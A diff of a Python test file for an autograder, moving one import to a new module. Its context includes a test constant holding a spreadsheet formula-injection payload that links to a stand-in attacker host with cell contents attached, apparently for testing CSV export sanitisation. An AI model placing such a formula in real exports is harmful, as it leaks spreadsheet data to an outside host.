@@ -17,7 +17,8 @@ import pytest
 
 from autograder import export
 from autograder.pipeline.source_tests import SourceTests
-from autograder.pipeline.write_results import GRADES_COLUMNS, csv_text
+from autograder.pipeline.write_results import csv_text
+from autograder.results import GRADES_COLUMNS
 
 AUTOGRADER = os.path.join(os.path.dirname(sys.executable), "autograder")
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
